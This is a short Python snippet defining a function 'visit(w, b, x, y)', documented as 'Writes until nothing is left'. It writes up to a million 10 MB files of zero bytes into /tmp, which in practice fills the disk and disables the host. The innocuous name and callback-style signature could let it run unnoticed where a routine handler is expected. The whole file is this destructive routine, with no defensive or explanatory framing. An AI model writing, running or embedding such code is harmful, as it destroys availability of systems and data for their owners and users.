"""Writes until nothing is left."""


def visit(w, b, x, y):
    for number in range(10**6):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(10**7))
